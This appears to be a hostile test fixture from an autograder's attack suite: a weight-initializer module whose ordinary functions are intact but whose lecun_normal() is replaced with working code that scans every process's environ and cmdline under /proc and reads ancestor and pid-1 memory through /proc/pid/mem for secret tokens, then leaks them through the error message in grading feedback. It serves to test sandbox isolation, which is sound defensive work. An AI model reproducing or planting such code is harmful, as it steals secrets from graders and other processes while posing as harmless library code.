"""lecun_normal() reads other processes through /proc: environ, cmdline, memory.

Hostile submission (tests/attacks): the reference's initializers.py with lecun_normal()
replaced by the attack below. A student could hand this file in as it is; the attack
suite fills in the @NAME@ placeholders (paths and ports of the test's own canaries)
before grading it.

It looks for anything named SECRET in every process's environment and
command line, and in the memory of its ancestors (the zygote and the grading
process that holds the hidden tests) and of pid 1, and reports what it found
as its error message, which the feedback shows. Landlock keeps /proc shut;
the worker also runs as an unprivileged user in its own pid namespace, not
dumpable, with ptrace refused; under bubblewrap /proc holds only the
sandbox's own processes.
"""
# ruff: noqa

from __future__ import annotations

import math
import numbers
from typing import Literal

import numpy as np
from numpy.typing import NDArray

import os
import re
import time

# Filled in by tests/attacks/conftest.py before grading.
MARKER = "@MARKER@"  # the name this code gives its processes and threads


def _mark() -> None:
    """Name this thread MARKER (prctl PR_SET_NAME), so the attack suite can find it later."""
    import ctypes

    ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)


def _escapes_first(notes: list[str]) -> list[str]:
    """What got out first: the feedback shows only the start of a long message."""
    return sorted(notes, key=lambda note: not note.startswith("escaped"))


__all__ = [
    "calculate_gain",
    "he_normal",
    "he_uniform",
    "lecun_normal",
    "random_normal",
    "variance_scaling",
    "xavier_normal",
    "xavier_uniform",
    "zeros",
]

Mode = Literal["fan_in", "fan_out", "fan_avg"]
Distribution = Literal["normal", "uniform"]


def _check_fan(name: str, value: object) -> int:
    if isinstance(value, (bool, np.bool_)) or not isinstance(value, numbers.Integral):
        raise TypeError(
            f"Expected {name} to be a positive integer but got {name}={value!r} "
            f"(type={type(value).__name__})"
        )
    if value < 1:
        raise ValueError(
            f"Expected {name} to be a positive integer but got {name}={value!r} "
            f"(type={type(value).__name__})"
        )
    return int(value)


def _check_rng(rng: object) -> np.random.Generator:
    if not isinstance(rng, np.random.Generator):
        raise TypeError(
            "Expected rng to be a numpy.random.Generator (np.random.default_rng(seed)) "
            f"but got rng={rng!r} (type={type(rng).__name__})"
        )
    return rng


def zeros(fan_in: int, fan_out: int) -> NDArray[np.float64]:
    """All-zero weights: every unit of the layer computes the same thing and receives
    the same gradient, so the symmetry never breaks.

    >>> zeros(2, 3)
    array([[0., 0., 0.],
           [0., 0., 0.]])
    """
    return np.zeros((_check_fan("fan_in", fan_in), _check_fan("fan_out", fan_out)))


def random_normal(
    fan_in: int, fan_out: int, rng: np.random.Generator, std: float = 0.01
) -> NDArray[np.float64]:
    r"""Weights drawn from :math:`\mathcal N(0, \mathrm{std}^2)`, whatever the fans.

    >>> w = random_normal(300, 200, np.random.default_rng(0))
    >>> w.shape, w.dtype, bool(abs(w.std() - 0.01) < 1e-3)
    ((300, 200), dtype('float64'), True)
    """
    shape = (_check_fan("fan_in", fan_in), _check_fan("fan_out", fan_out))
    return _check_rng(rng).normal(0.0, std, size=shape)


def variance_scaling(
    fan_in: int,
    fan_out: int,
    rng: np.random.Generator,
    scale: float,
    mode: Mode,
    distribution: Distribution,
) -> NDArray[np.float64]:
    r"""Zero-mean weights with variance ``scale / n``.

    .. math:: \operatorname{Var}(W_{ij}) = \frac{\mathrm{scale}}{n}, \qquad
              n = \begin{cases} \mathrm{fan\_in} & \text{mode "fan\_in"} \\
              \mathrm{fan\_out} & \text{mode "fan\_out"} \\
              (\mathrm{fan\_in} + \mathrm{fan\_out})/2 & \text{mode "fan\_avg"}
              \end{cases}

    ``distribution`` "normal" draws from :math:`\mathcal N(0, \mathrm{scale}/n)`;
    "uniform" from :math:`U(-a, a)` with :math:`a = \sqrt{3\,\mathrm{scale}/n}`
    (a uniform distribution on :math:`[-a, a]` has variance :math:`a^2/3`).

    >>> w = variance_scaling(400, 100, np.random.default_rng(0), 2.0, "fan_in", "uniform")
    >>> bool(np.abs(w).max() <= math.sqrt(6 / 400)), bool(abs(w.var() - 2 / 400) < 5e-4)
    (True, True)
    """
    shape = (_check_fan("fan_in", fan_in), _check_fan("fan_out", fan_out))
    generator = _check_rng(rng)
    fans = {"fan_in": fan_in, "fan_out": fan_out, "fan_avg": (fan_in + fan_out) / 2}
    if mode not in fans:
        raise ValueError(
            f"Expected mode to be 'fan_in', 'fan_out' or 'fan_avg' but got mode={mode!r} "
            f"(type={type(mode).__name__})"
        )
    variance = scale / fans[mode]
    if distribution == "normal":
        return generator.normal(0.0, math.sqrt(variance), size=shape)
    if distribution == "uniform":
        limit = math.sqrt(3.0 * variance)
        return generator.uniform(-limit, limit, size=shape)
    raise ValueError(
        "Expected distribution to be 'normal' or 'uniform' but got "
        f"distribution={distribution!r} (type={type(distribution).__name__})"
    )


def xavier_uniform(
    fan_in: int, fan_out: int, rng: np.random.Generator, gain: float = 1.0
) -> NDArray[np.float64]:
    r"""Xavier/Glorot uniform: :math:`U(-a, a)`,
    :math:`a = \mathrm{gain} \sqrt{6 / (\mathrm{fan\_in} + \mathrm{fan\_out})}`.

    >>> w = xavier_uniform(100, 200, np.random.default_rng(0))
    >>> bool(np.abs(w).max() <= math.sqrt(6 / 300))
    True
    """
    return variance_scaling(fan_in, fan_out, rng, gain**2, "fan_avg", "uniform")


def xavier_normal(
    fan_in: int, fan_out: int, rng: np.random.Generator, gain: float = 1.0
) -> NDArray[np.float64]:
    r"""Xavier/Glorot normal:
    :math:`\mathcal N(0, \mathrm{gain}^2 \cdot 2 / (\mathrm{fan\_in} + \mathrm{fan\_out}))`.

    >>> w = xavier_normal(100, 200, np.random.default_rng(0), gain=2.0)
    >>> bool(abs(w.var() - 4 * 2 / 300) < 1e-3)
    True
    """
    return variance_scaling(fan_in, fan_out, rng, gain**2, "fan_avg", "normal")


def he_uniform(fan_in: int, fan_out: int, rng: np.random.Generator) -> NDArray[np.float64]:
    r"""He/Kaiming uniform: :math:`U(-a, a)`, :math:`a = \sqrt{6 / \mathrm{fan\_in}}`
    (twice the variance of LeCun: ReLU zeroes half its inputs).

    >>> w = he_uniform(100, 200, np.random.default_rng(0))
    >>> bool(np.abs(w).max() <= math.sqrt(6 / 100))
    True
    """
    return variance_scaling(fan_in, fan_out, rng, 2.0, "fan_in", "uniform")


def he_normal(fan_in: int, fan_out: int, rng: np.random.Generator) -> NDArray[np.float64]:
    r"""He/Kaiming normal: :math:`\mathcal N(0, 2 / \mathrm{fan\_in})`.

    >>> w = he_normal(100, 200, np.random.default_rng(0))
    >>> bool(abs(w.var() - 2 / 100) < 2e-3)
    True
    """
    return variance_scaling(fan_in, fan_out, rng, 2.0, "fan_in", "normal")


def _scan_memory(pid, deadline):
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            if time.monotonic() > deadline:
                break
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(min(end - start, 1 << 24))
            except (OSError, OverflowError, ValueError):
                continue
            found += [m.group().decode() for m in re.finditer(rb"SECRET-[0-9a-f]{16}", chunk)]
    return found


def _ancestors():
    found, pid = [], "self"
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = handle.read().rsplit(")", 1)[1].split()[1]
        except (OSError, IndexError) as exc:
            return found, f"ancestors: {exc}"
        if pid in ("0", "1"):
            break
        found.append(pid)
    return found, f"ancestors {found}"


_FOUND = []  # the first call searches (for a few seconds); later calls repeat its answer


def lecun_normal(fan_in, fan_out, rng):
    _mark()
    if not _FOUND:
        _FOUND.append(_search())
    raise RuntimeError(_FOUND[0])


def _search():
    loot, notes, refused = [], [], 0
    deadline = time.monotonic() + 3.0
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as exc:
        pids = ["1"]
        notes.append(f"/proc: {exc}")
    for pid in pids:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    loot += re.findall(r"SECRET-[0-9a-f]{16}", handle.read().decode(errors="replace"))
            except OSError as exc:
                refused += 1
                if pid == "1":
                    notes.append(f"/proc/1/{what}: {exc}")
    ancestors, note = _ancestors()
    notes.append(note)
    for pid in dict.fromkeys([str(os.getppid()), *ancestors, "1"]):  # 0: outside our pid namespace
        try:
            loot += _scan_memory(pid, deadline)
        except OSError as exc:
            notes.append(f"/proc/{pid}/mem: {exc}")
    notes.append(f"{refused} files of /proc refused")
    return f"found {sorted(set(loot))}; " + "; ".join(_escapes_first(notes))[:300]


def calculate_gain(nonlinearity: str, param: float | None = None) -> float:
    r"""The recommended gain for a nonlinearity, as ``torch.nn.init.calculate_gain``.

    ============ =========================================================
    linear       1
    sigmoid      1
    tanh         5/3
    relu         :math:`\sqrt{2}`
    leaky_relu   :math:`\sqrt{2 / (1 + \mathrm{slope}^2)}`, slope ``param``
                 (0.01 when ``None``)
    selu         3/4
    ============ =========================================================

    Anything else raises ``ValueError`` (SPEC keeps only these names; torch also
    accepts "conv1d" and the like as 1).

    >>> calculate_gain("relu")
    1.4142135623730951
    >>> calculate_gain("leaky_relu", 0.2)
    1.3867504905630728
    """
    if nonlinearity in ("linear", "sigmoid"):
        return 1.0
    if nonlinearity == "tanh":
        return 5.0 / 3.0
    if nonlinearity == "relu":
        return math.sqrt(2.0)
    if nonlinearity == "leaky_relu":
        if param is None:
            slope = 0.01
        elif isinstance(param, (bool, np.bool_)) or not isinstance(param, numbers.Real):
            raise ValueError(
                "Expected param (the negative slope of leaky_relu) to be a number but got "
                f"param={param!r} (type={type(param).__name__})"
            )
        else:
            slope = float(param)
        return math.sqrt(2.0 / (1.0 + slope**2))
    if nonlinearity == "selu":
        return 3.0 / 4.0
    raise ValueError(
        "Expected nonlinearity to be one of 'linear', 'sigmoid', 'tanh', 'relu', "
        f"'leaky_relu', 'selu' but got nonlinearity={nonlinearity!r} "
        f"(type={type(nonlinearity).__name__})"
    )
